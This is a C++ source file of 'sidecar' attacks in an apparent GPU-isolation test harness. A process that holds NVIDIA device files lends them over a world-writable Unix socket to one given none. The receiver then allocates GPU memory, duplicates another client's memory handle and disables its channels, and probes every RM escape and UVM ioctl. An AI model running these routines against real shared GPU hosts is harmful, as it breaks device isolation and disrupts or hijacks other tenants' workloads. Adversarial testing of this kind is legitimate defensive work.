// Files of a GPU in the hands of a process that was given none: lent over a socket by one that was,
// fresh or in use.
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <thread>

#include "common.h"
#include "rm/escape_table.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"
#include "rm/nv_uvm.h"
#include "rm/uvm_table.h"

namespace cgpu::adversary {
namespace {

sockaddr_un Address(const std::string& path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  std::memcpy(address.sun_path, path.data(), std::min(path.size(), sizeof(address.sun_path) - 1));
  return address;
}

int Socket() {
  return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

int ListenOn(const std::string& path) {
  const sockaddr_un address = Address(path);
  const int listening = Socket();
  unlink(address.sun_path);
  if (bind(listening, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0 ||
      chmod(address.sun_path, 0666) != 0 || listen(listening, 1) != 0) {
    Die("failed: cannot listen: %s", std::strerror(errno));
  }
  return listening;
}

int ConnectOver(const std::string& path) {
  const sockaddr_un address = Address(path);
  const int peer = Socket();
  if (connect(peer, reinterpret_cast<const sockaddr*>(&address), sizeof(address)) != 0) {
    Die("failed: cannot connect: %s", std::strerror(errno));
  }
  return peer;
}

// Sends fresh files of the control device, a GPU and UVM to the first who connects, and holds.
int Lend(const std::vector<std::string>& args) {
  const int listening = ListenOn(args.at(0));
  const int uvm = open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC);
  const int control = OpenControl();
  const int gpu = OpenGpu();
  if (uvm < 0 || control < 0 || gpu < 0) {
    Die("failed: no GPU files here: %s", std::strerror(errno));
  }
  Say("listening");
  const int peer = accept(listening, nullptr, nullptr);
  for (const int file : {control, gpu, uvm}) {
    SendFd(peer, file);
  }
  Hold();
  return 0;
}

// Sends files that are in use to all who connect: of a client with memory, and of an address space.
// Frees the memory when a line comes.
int LendUsed(const std::vector<std::string>& args) {
  const int listening = ListenOn(args.at(0));
  Client client = MakeClient();
  std::uint32_t memory = 0;
  const int uvm = open("/dev/nvidia-uvm", O_RDWR | O_CLOEXEC);
  rm::UVM_INITIALIZE_PARAMS initialize{};
  if (client.AllocMemory(Number(args, 1, 64), &memory) != rm::NV_OK ||
      RawIoctl(uvm, rm::UVM_INITIALIZE, &initialize) != 0 || initialize.rmStatus != rm::NV_OK) {
    Die("failed: no memory, or no address space");
  }
  Say("client %u memory %u", client.root, memory);
  std::thread([&] {
    while (true) {
      const int peer = accept(listening, nullptr, nullptr);
      for (const int file : {client.ctl, client.gpu, uvm}) {
        SendFd(peer, file);
      }
      close(peer);
    }
  }).detach();
  std::string line;
  (void)Line(&line);
  Say("free: status 0x%x", client.Free(memory));
  Hold();
  _exit(0);
}

// Asks each row of the tables on each file, in the first and the last size that some driver takes.
void AskEveryRow(const std::vector<int>& files) {
  std::vector<unsigned char> params(rm::NV_ABSOLUTE_MAX_IOCTL_SIZE);
  std::uint64_t refused = 0;
  std::uint64_t reached = 0;
  const auto ask = [&](std::uint32_t request) {
    for (const int file : files) {
      std::fill(params.begin(), params.end(), 0);
      const int error = RawIoctl(file, request, params.data());
      ++(error == ENODEV ? refused : reached);
      if (error != ENODEV) {
        Say("reached 0x%x errno %d", request, error);
      }
    }
  };
  for (const rm::EscapeRow& row : rm::EscapeRows()) {
    std::vector<std::uint32_t> sizes;
    for (std::uint32_t size = 0; size < rm::NV_ABSOLUTE_MAX_IOCTL_SIZE; ++size) {
      const std::uint32_t request = rm::EscapeRequest(row.nr, size);
      if (rm::AnyDriverAccepts(request) && !PassesInOthers(row.nr, size)) {
        sizes.push_back(request);
      }
    }
    if (!sizes.empty()) {
      ask(sizes.front());
      ask(sizes.back());
      ask((sizes.front() & 0xffff00ffU) | 'd' << 8U);  // a type of another device
    }
  }
  for (const rm::UvmRow& row : rm::UvmRows()) {
    ask(row.request);
  }
  Say("rows: %lu refused, %lu reached", refused, reached);
}

// Goes for memory and channels of the client whose files are in use. "rows": asks all else, too.
int BorrowUsed(const std::vector<std::string>& args) {
  const int peer = ConnectOver(args.at(0));
  Client client;
  client.ctl = ReceiveFd(peer);
  client.gpu = ReceiveFd(peer);
  const int uvm = ReceiveFd(peer);
  client.root = static_cast<std::uint32_t>(Number(args, 1, 0));
  const auto memory = static_cast<std::uint32_t>(Number(args, 2, 0));
  constexpr std::uint32_t kCopy = 0xcafe0001;
  Say("copy: status 0x%x", client.Dup(client.root, memory, kCopy));
  rm::NV2080_CTRL_FIFO_DISABLE_CHANNELS_PARAMS off{};
  off.bDisable = 1;
  off.numChannels = 1;
  off.hClientList[0] = client.root;
  off.hChannelList[0] = kCopy;
  Say("off: status 0x%x",
      client.Control(Client::kSubdevice, rm::NV2080_CTRL_CMD_FIFO_DISABLE_CHANNELS, &off,
                     sizeof(off)));
  if (args.size() > 3 && args[3] == "rows") {
    AskEveryRow({client.ctl, client.gpu, uvm});
  }
  Hold();
  return 0;
}

// A client by RM_ALLOC in the way `issue` goes about it; what was got in MiB.
std::uint64_t Take(int control, int gpu, const Issue& issue, std::uint64_t mib) {
  Client client;
  client.issue = issue;
  client.ctl = control;
  client.gpu = gpu;
  rm::NVOS21_PARAMETERS alloc{};
  alloc.hClass = rm::NV01_ROOT_CLIENT;
  const int error = issue(control, rm::NV_ESC_RM_ALLOC, &alloc, sizeof(alloc));
  Say("client: errno %d status 0x%x", error, alloc.status);
  if (error != 0 || alloc.status != rm::NV_OK) {
    return 0;
  }
  client.root = alloc.hObjectNew;
  return client.AllocDevice(0) == rm::NV_OK ? Grab(client, mib, mib) : 0;
}

// Goes for MIB of GPU memory in every way that the files allow.
int Borrow(const std::vector<std::string>& args) {
  const int peer = ConnectOver(args.at(0));
  const int control = ReceiveFd(peer);
  const int gpu = ReceiveFd(peer);
  const int uvm = ReceiveFd(peer);
  std::uint64_t got = 0;
  for (const Issue& issue : {Issue(Plainly), Issue(Wrapped)}) {
    got += Take(control, gpu, issue, Number(args, 1, 64));
  }
  rm::UVM_INITIALIZE_PARAMS initialize{};
  const int error = RawIoctl(uvm, rm::UVM_INITIALIZE, &initialize);
  Say("uvm: errno %d status 0x%x", error, initialize.rmStatus);
  Say("got %lu MiB", got);
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> SidecarAttacks() {
  return {{"lend", Lend, "PATH: gives its files to who connects to the socket"},
          {"borrow", Borrow, "PATH [MIB]: takes GPU memory with files that were lent"},
          {"lend-used", LendUsed, "PATH [MIB]: gives files that are in use to all who connect"},
          {"borrow-used", BorrowUsed,
           "PATH CLIENT MEMORY [rows]: goes for what a client has, by its own files"}};
}

}  // namespace cgpu::adversary
